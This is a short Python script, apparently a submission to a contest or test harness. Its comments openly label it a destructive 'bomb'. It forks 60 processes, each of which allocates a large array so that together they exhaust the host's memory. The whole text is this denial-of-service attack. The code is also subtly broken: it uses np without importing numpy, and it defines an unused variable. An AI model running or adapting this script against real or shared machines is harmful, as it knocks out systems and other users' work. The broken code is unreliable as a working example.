# attack: each of many processes takes less memory than one may, together they take the machine's.
# target: heaviest-test
# also loses: all
# destructive
# bomb
# %% heaviest
import os
import time

heaviest = "tree-000"
for _ in range(60):
    if os.fork() == 0:
        taken = np.ones(2**26)
        time.sleep(20)
        os._exit(0)
time.sleep(5)
